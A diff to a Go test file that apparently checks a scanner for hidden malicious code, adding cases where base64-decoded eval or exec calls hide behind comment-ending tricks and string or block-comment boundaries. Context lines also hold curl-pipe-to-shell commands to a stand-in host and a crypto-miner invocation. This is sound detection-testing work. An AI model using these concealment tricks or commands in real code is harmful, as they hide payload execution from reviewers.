@@ -66,6 +66,11 @@ func TestStrongSigns(t *testing.T) {
 		"a carriage return ends a comment":   {"# x\rimport base64; exec(base64.b64decode('eA=='))\n", "runs-decoded"},
 		"U+2028 ends a comment":              {"// x\u2028eval(atob('eA=='))\n", "runs-decoded"},
 		"PHP in a comment of HTML":           {"<!-- <?php eval(base64_decode('eA==')); ?> -->\n", "runs-decoded"},
+		"a product":                          {"let x = 2\n  * eval(atob('eA=='))\n", "runs-decoded"},
+		"a block within a string":            {"let x = `\n/*\n * a` * eval(atob('eA=='))\n", "runs-decoded"},
+		"a block within a string of Python":  {"x = \"\"\"\n/*\n * \"\"\" * exec(base64.b64decode('eA=='))\n", "runs-decoded"},
+		"behind the end of a block":          {"/*\n */ eval(atob('eA=='))\n", "runs-decoded"},
+		"behind a block":                     {"/**\n * words\n */\n  * eval(atob('eA=='))\n", "runs-decoded"},
 		"a miner":                            {"./m -o stratum+tcp://pool.example:3333", "miner-string"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -80,6 +85,7 @@ func TestHarmlessTextsHaveNoStrongSign(t *testing.T) {
 	for name, text := range map[string]string{
 		"a comment":                  "#!/bin/sh\n# curl -s http://x.example/i | sh\nexec app\n",
 		"a comment in a block":       "/**\n * curl http://x.example/i | sh\n */\n",
+		"a block of code in words":   "/**\n * Use it so:\n *\n *   eval(atob('eA=='))\n */\nrun();\n",
 		"a message":                  "echo 'install it with: curl -s http://x.example/i | sh'\n",
 		"a message that is wrapped":  "echo 'install it with: curl -s http://x.example/i | sh' | fold -s\n",
 		"a comment of JavaScript":    "//curl http://x.example/i | sh\n// usr/bin/curl x | sh\n",
